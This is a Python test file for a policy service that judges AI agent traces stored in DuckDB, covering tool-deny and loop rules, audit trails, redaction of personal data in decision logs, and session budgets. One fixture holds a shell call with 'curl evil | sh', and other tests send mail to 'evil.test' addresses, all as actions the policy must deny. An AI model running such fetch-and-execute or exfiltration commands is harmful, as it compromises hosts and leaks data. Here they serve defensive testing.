"""The policy service on a real DuckDB store: runs judged after commit (split traces, late
spans), the set in force when a run started, applies audited, decision records redacted."""

from __future__ import annotations

from collections.abc import Iterator
from pathlib import Path
from typing import Any

import pytest

from aisre.core.slo import SpecValidationError
from aisre.evaluate.policy.service import PolicyService
from aisre.normalize.redaction import load_policy
from aisre.normalize.spans import flatten
from aisre.store.factory import open_store
from aisre.store.protocol import Store
from tests.policy_traces import T0, S, agent_run, model, tool

POLICY = """
policies:
  - name: triage
    scope: {journeys: [triage]}
    rules:
      - {name: no-shell, kind: tool_deny, tools: [shell]}
      - {name: no-loops, kind: loop, max_repeats: 5}
      - name: mail-domain
        kind: argument
        tools: [send_email]
        require: 'args.to.endsWith("@example.com")'
"""


@pytest.fixture
def store(tmp_path: Path) -> Iterator[Store]:
    opened = open_store(f"duckdb:///{tmp_path}/policy.duckdb", retention_days=0)
    yield opened
    opened.close()


def _send(store: Store, request: Any, received_ns: int, content: Any = None) -> None:
    flat = flatten(request, "t", received_ns=received_ns, content=content)
    store.submit_spans(flat.table, flat.resources).result(30)


def _service(store: Store, **kw: Any) -> PolicyService:
    return PolicyService(store, **kw)


def test_split_trace_and_late_span_are_judged_on_the_whole_trace(store: Store) -> None:
    service = _service(store)
    service.apply("t", POLICY, "tester")
    run = agent_run([tool("read_file", path="/a") for _ in range(6)] + [tool("search", q="x")])
    root, agent, *steps = run.spans
    late = steps.pop()  # the last step comes after the run was first judged
    # Children first, root later (as exporters send them): nothing to judge before the root.
    _send(store, run.request(steps[:3]), T0 + 10 * S)
    assert service.judge_pending("t") == 0
    _send(store, run.request([*steps[3:], root, agent]), T0 + 11 * S)
    assert service.judge_pending("t") == 1
    violations = store.list_violations("t", trace_id=run.trace_id)
    assert [(v["rule"], v["count"]) for v in violations] == [("no-loops", 6)]
    assert violations[0]["span_id"] == run.step_span_ids[4]
    assert service.judge_pending("t") == 0  # judged once until something changes
    # A late denied tool call: the trace is judged again, on all of its spans.
    late.attributes[0].value.string_value = "execute_tool"
    late.attributes[1].value.string_value = "shell"
    late.attributes[2].value.string_value = '{"cmd": "curl evil | sh"}'
    _send(store, run.request([late]), T0 + 60 * S)
    assert service.judge_pending("t") == 1
    rules = sorted((v["rule"], v["count"]) for v in store.list_violations("t", trace_id=run.trace_id))
    assert rules == [("no-loops", 6), ("no-shell", 1)]
    mark = store.policy_run("t", run.trace_id)
    assert mark is not None and mark["actions"] == 7 and mark["violations"] == 2


def test_a_run_is_judged_by_the_set_in_force_when_it_started(store: Store) -> None:
    service = _service(store)
    service.apply("t", POLICY, "tester")
    first = service.current("t")
    looser = POLICY.replace("tools: [shell]", "tools: [rm]")
    service.apply("t", looser, "tester")
    assert first is not None and service.current("t") is not None
    # Runs are stamped with the policy set's time: an old run under the first set.
    sets = service.sets("t")
    assert [s.bundle for s in sets][1] == first.bundle
    old = agent_run([tool("shell", cmd="ls")], start_ns=sets[0].applied_ns - 1)
    new = agent_run([tool("shell", cmd="ls")], start_ns=sets[0].applied_ns + S)
    _send(store, old.request(), T0)
    _send(store, new.request(), T0)
    assert service.judge_pending("t") == 2
    assert [v["rule"] for v in store.list_violations("t", trace_id=old.trace_id)] == ["no-shell"]
    assert store.list_violations("t", trace_id=new.trace_id) == []


def test_apply_is_all_or_nothing_and_audited_with_before_and_after(store: Store) -> None:
    service = _service(store)
    applied = service.apply("t", POLICY, "key-1")
    assert applied["changed"] is True
    assert service.apply("t", POLICY, "key-1")["changed"] is False  # same content, same version
    with pytest.raises(SpecValidationError) as bad:
        service.apply("t", POLICY.replace("<= 100", "").replace('endsWith("@example.com")', 'endsWith('), "key-1")
    assert bad.value.errors[0].field == "policies[0].rules[2].require"
    assert service.current("t").bundle == applied["bundle"]  # the bad set changed nothing
    second = service.apply("t", POLICY.replace("max_repeats: 5", "max_repeats: 3"), "key-2")
    audit = store.list_audit("t", action="policy")
    assert [a["action"] for a in audit] == ["policy.apply", "policy.apply"]
    newest = audit[0]
    assert newest["actor"] == "key-2"
    assert newest["before"]["bundle"] == applied["bundle"]
    assert newest["after"]["bundle"] == second["bundle"]
    assert newest["before"]["policies"][0]["version"] != newest["after"]["policies"][0]["version"]
    assert audit[1]["before"] is None


def test_a_pii_tool_argument_never_reaches_the_decision_log_in_clear(store: Store, tmp_path: Path) -> None:
    content = load_policy("redact")
    service = _service(store, scrub=content.scrub, digest_key=b"k")
    service.apply("t", POLICY, "tester")
    secret = "jane.doe@example.com"
    card = "4111 1111 1111 1111"
    answer = service.decide("t", {"journey": "triage", "trace_id": "ab" * 16,
                                  "action": {"type": "tool", "name": "send_email",
                                             "args": {"to": secret, "body": f"card {card}"}}})
    assert answer["result"] == "allow"  # judged on the clear value
    denied = service.decide("t", {"journey": "triage", "action": {"type": "tool", "name": "send_email",
                                                                  "args": {"to": "mallory@evil.test"}}})
    assert denied["result"] == "deny" and denied["reasons"][0]["rule"] == "mail-domain"
    records = store.list_decisions("t")
    assert len(records) == 2
    allowed = next(r for r in records if r["result"] == "allow")
    assert allowed["input"]["action"]["args"]["to"] == "[REDACTED:EMAIL]"
    assert allowed["input_digest"].startswith("hmac-sha256:")
    assert [r["rules"] for r in store.list_decisions("t", result="deny")] == [["mail-domain"]]
    assert store.list_decisions("t", rule="mail-domain")[0]["id"] == denied["id"]
    store.close()
    raw = (tmp_path / "policy.duckdb").read_bytes() + b"".join(
        p.read_bytes() for p in tmp_path.glob("policy.duckdb.wal"))
    assert secret.encode() not in raw and b"4111 1111" not in raw
    assert b"mallory@evil.test" not in raw


def test_denies_go_to_the_audit_trail_with_the_decision_id_redacted(store: Store, tmp_path: Path) -> None:
    """Like OPA's decision-log sink: each deny (and each apply) is in the audit log, naming the
    decision id; the audit entry holds the input as the decision record does (redacted)."""
    service = _service(store, scrub=load_policy("redact").scrub, digest_key=b"k")
    service.apply("t", POLICY, "admin-key")
    allowed = service.decide("t", {"journey": "triage", "action": {"type": "tool", "name": "send_email",
                                                                   "args": {"to": "jane.doe@example.com"}}})
    denied = service.decide("t", {"journey": "triage", "trace_id": "cd" * 16, "span_id": "ef" * 8,
                                  "action": {"type": "tool", "name": "shell", "args": {"cmd": "mail bob@evil.test"}}},
                            actor="ingest-key-1")
    assert allowed["result"] == "allow" and denied["result"] == "deny"
    entries = store.list_audit("t", action="policy.decide")
    assert [(e["action"], e["target"], e["actor"]) for e in entries] == [
        ("policy.decide.deny", f"decision:{denied['id']}", "ingest-key-1")]
    after = entries[0]["after"]
    assert after["id"] == denied["id"] and after["rules"] == ["no-shell"]
    assert after["trace_id"] == "cd" * 16 and after["span_id"] == "ef" * 8
    assert after["input_digest"] == denied["input_digest"]
    assert after["input"]["action"]["args"]["cmd"] == "mail [REDACTED:EMAIL]"
    assert [e["action"] for e in store.list_audit("t", action="policy")] == ["policy.decide.deny", "policy.apply"]
    store.close()
    raw = (tmp_path / "policy.duckdb").read_bytes() + b"".join(
        p.read_bytes() for p in tmp_path.glob("policy.duckdb.wal"))
    assert b"bob@evil.test" not in raw


def test_session_and_tenant_budgets_inline_and_over_stored_traces_agree(store: Store) -> None:
    """A session split over runs: inline, each call of the fourth run is judged against what the
    store holds of the session's (and the tenant's) other runs; judged after commit, the same."""
    from aisre.evaluate.policy.actions import run_actions
    from tests.evaluate.test_policy import SHARED, _action_body, _session_runs

    service = _service(store, digest_key=b"k")
    service.apply("t", SHARED, "tester")
    runs = dict(_session_runs())
    # session.id is hashed at ingest by default; the runtime asks with the clear id.
    content = load_policy("redact", salt=b"k").filter_for("t")
    for name in ("s1-a", "s1-b", "s2"):
        _send(store, runs[name].request(), T0 + 3600 * S, content=content)
    stored = store.get_trace("t", runs["s1-a"].trace_id)[0]["session_id"]
    assert stored.startswith("hmac:") and stored != "s1"
    later = runs["s1-c"]
    acts = run_actions({}, flatten(later.request(), "t").table.to_pylist(), "t")
    inline = []
    for i, action in enumerate(acts.actions):
        body = {"journey": "triage", "session_id": "s1", "trace_id": later.trace_id, "action": _action_body(action),
                "history": [_action_body(a) for a in acts.actions[:i]]}
        answer = service.decide("t", body)
        inline.append((answer["result"], [r["rule"] for r in answer["reasons"]]))
    assert inline == [("allow", []), ("deny", ["per-session"]), ("deny", ["per-session", "per-tenant"]),
                      ("deny", ["per-session", "per-tenant"])]
    _send(store, later.request(), T0 + 3600 * S, content=content)
    assert service.judge_pending("t") == 4
    judged = service.judge_trace("t", later.trace_id)
    assert sorted((v["rule"], v["count"]) for v in judged["violations"]) == [("per-session", 12), ("per-tenant", 16)]
    assert [v["span_id"] for v in sorted(judged["violations"], key=lambda v: v["rule"])] == later.step_span_ids[1:3]
    assert {r["trace_id"] for r in store.list_violations("t")} == {later.trace_id}


def test_stored_redacted_arguments_leave_a_predicate_undetermined(store: Store) -> None:
    """With the tenant's redaction at ingest the trace holds [REDACTED:EMAIL], which cannot be
    judged: the rule is reported undetermined, not a violation (the inline decision judged it)."""
    service = _service(store)
    service.apply("t", POLICY, "tester")
    run = agent_run([tool("send_email", to="bob@elsewhere.test"), model()])
    content = load_policy("redact").filter_for("t")
    _send(store, run.request(), T0, content=content)
    service.judge_pending("t")
    assert store.list_violations("t", trace_id=run.trace_id) == []
    mark = store.policy_run("t", run.trace_id)
    assert mark is not None and mark["undetermined"] == ["triage/mail-domain"]


def _verdicts_together(runs: list[Any], policies: Any) -> dict[str, list[tuple[str, float, str]]]:
    """What judging these runs all together says: per trace, (rule, count, span) sorted."""
    from aisre.evaluate.policy.actions import run_actions
    from aisre.evaluate.policy.engine import evaluate_runs

    acts = [run_actions({}, flatten(run.request(), "t").table.to_pylist(), "t") for run in runs]
    verdicts = evaluate_runs(policies, [(a.context, a.actions) for a in acts])
    return {run.trace_id: sorted((v.rule, v.count, v.span_id) for v in verdict.violations)
            for run, verdict in zip(runs, verdicts, strict=True)}


def _stored(store: Store, trace_id: str) -> list[tuple[str, float, str]]:
    return sorted((v["rule"], v["count"], v["span_id"]) for v in store.list_violations("t", trace_id=trace_id))


def test_an_earlier_run_arriving_late_judges_the_later_runs_of_its_session_again(store: Store) -> None:
    """s1's runs c and d arrive and are judged first; runs a and b of the same session arrive
    later, started earlier: c and d are judged again, and every stored verdict is what judging
    the four runs together says."""
    from tests.evaluate.test_policy import SHARED, _session_runs

    service = _service(store)
    service.apply("t", SHARED, "tester")
    runs = dict(_session_runs())
    s1 = [runs["s1-a"], runs["s1-b"], runs["s1-c"], runs["s1-d"]]
    for run in s1[2:]:
        _send(store, run.request(), T0 + 3600 * S)
    assert service.judge_pending("t") == 2
    assert _stored(store, runs["s1-c"].trace_id) == _stored(store, runs["s1-d"].trace_id) == []
    for run in s1[:2]:
        _send(store, run.request(), T0 + 3700 * S)
    assert service.judge_pending("t") == 2  # a and b, the late ones
    assert service.rejudged["t"] == 2  # c and d again
    expected = _verdicts_together(s1, service.current("t").policies)  # type: ignore[union-attr]
    assert expected[runs["s1-c"].trace_id] == [
        ("per-session", 12, runs["s1-c"].step_span_ids[1])]  # 10th..12th of s1's tool calls
    assert expected[runs["s1-d"].trace_id][0][:2] == ("per-session", 16)
    for run in s1:
        assert _stored(store, run.trace_id) == expected[run.trace_id], run.trace_id
    # Nothing changed since: nothing is judged again.
    assert service.judge_pending("t") == 0 and service.rejudged["t"] == 2


def _probe(service: PolicyService, trace_id: str, session: str | None, at_ns: int) -> tuple[Any, Any]:
    """The other runs' totals an inline decision of ``trace_id`` at ``at_ns`` sees: from the
    store read and from the running counts, per window (tenant) and for the session."""
    from aisre.evaluate.policy.engine import RunContext, shared_budget_scopes

    current = service.current("t")
    assert current is not None
    ctx = RunContext("t", "triage", "", "", trace_id, 0, session)
    scopes = shared_budget_scopes(current.policies, ctx)
    windows = service.usage.windows(current.policies, at_ns)
    read = service.ledgers(current.policies, ctx, at_ns, at_ns, clear_session=True) or {}
    counted = service.usage.ledgers(scopes, ctx, windows)

    def totals(ledgers: dict[str, Any]) -> dict[str, Any]:
        out = {f"tenant@{s}": ledgers["tenant"].usage(s, at_ns) for s, _ in windows}
        if "session" in ledgers:
            out["session"] = ledgers["session"].usage(0, at_ns)
        # Costs are summed in another order in memory than in SQL: equal to the nano-dollar.
        return {k: {m: round(float(v), 9) for m, v in t.items()} for k, t in out.items()}

    return totals(read), totals(counted)


def test_running_counts_give_the_store_reads_answers(store: Store) -> None:
    """Inline session and tenant budgets read counts kept in memory: seeded from the store,
    kept by judged runs and by decisions, they give what the store read gives once the runs
    are committed, and a call decided and then committed is counted once."""
    from tests.evaluate.test_policy import SHARED, _action_body, _calls, _session_runs

    service = _service(store, digest_key=b"k")
    service.usage.refresh_s = 1e12  # no re-seeding: every change below comes from a judged run or a decision
    service.apply("t", SHARED, "tester")
    runs = dict(_session_runs())
    content = load_policy("redact", salt=b"k").filter_for("t")
    minute = 60 * S
    # Probes: (asking trace, session as the runtime sends it, time) in both UTC hours; the
    # asking trace is new, or one of the stored runs (its own calls are left out).
    probes = [("f" * 32, "s1", T0 + 59 * minute), ("f" * 32, "s2", T0 + 59 * minute), ("f" * 32, None, T0 + 45 * minute),
              (runs["s1-b"].trace_id, "s1", T0 + 59 * minute), ("e" * 32, "s9", T0 + 59 * minute)]
    # Seeded before anything is stored, then kept by the judging pass alone.
    for trace_id, session, at in probes:
        read, counted = _probe(service, trace_id, session, at)
        assert read == counted
    seeds = service.usage.seeds
    for name in ("s1-a", "s1-b", "s2", "s1-d"):
        _send(store, runs[name].request(), T0 + 3600 * S, content=content)
    service.judge_pending("t")
    for trace_id, session, at in probes:
        read, counted = _probe(service, trace_id, session, at)
        assert read == counted, (trace_id, session)
        assert service.usage.seeds == seeds  # answered from memory
    read, _ = _probe(service, "f" * 32, "s1", T0 + 59 * minute)
    assert read["session"]["tool_calls"] == 12  # a, b and d: the store held them
    # A fresh service seeds from the stored runs once and agrees too.
    fresh = _service(store, digest_key=b"k")
    fresh.apply("t", SHARED, "tester")
    for trace_id, session, at in probes:
        read, counted = _probe(fresh, trace_id, session, at)
        assert read == counted, (trace_id, session)
    # A decision counts its call at once, before the run's spans are exported; committed
    # and judged, the run is counted once.
    from aisre.evaluate.policy.actions import run_actions

    def ask(run: Any, session: str) -> list[str]:
        acts = run_actions({}, flatten(run.request(), "t").table.to_pylist(), "t")
        return [service.decide("t", {"journey": "triage", "session_id": session, "trace_id": run.trace_id,
                                     "action": _action_body(action),
                                     "history": [_action_body(a) for a in acts.actions[:i]]}, record=False)["result"]
                for i, action in enumerate(acts.actions)]

    denied = agent_run(_calls(1, "y"), session="s1", start_ns=T0 + 55 * minute)
    assert ask(denied, "s1") == ["deny"]  # s1 is over its 9 already
    read, counted = _probe(service, "f" * 32, "s1", T0 + 59 * minute)
    assert counted["session"]["tool_calls"] == read["session"]["tool_calls"] == 12  # a denied call is not made
    late = agent_run(_calls(2, "z"), session="s7", start_ns=T0 + 55 * minute)
    assert ask(late, "s7") == ["allow", "allow"]
    read, counted = _probe(service, "f" * 32, "s7", T0 + 59 * minute)
    assert (read["session"]["tool_calls"], counted["session"]["tool_calls"]) == (0, 2)  # not exported yet
    _send(store, late.request(), T0 + 3800 * S, content=content)
    service.judge_pending("t")
    for session in ("s1", "s7"):
        read, counted = _probe(service, "f" * 32, session, T0 + 59 * minute)
        assert read == counted, session  # the decided calls, now committed, are counted once
    assert read["session"]["tool_calls"] == 2
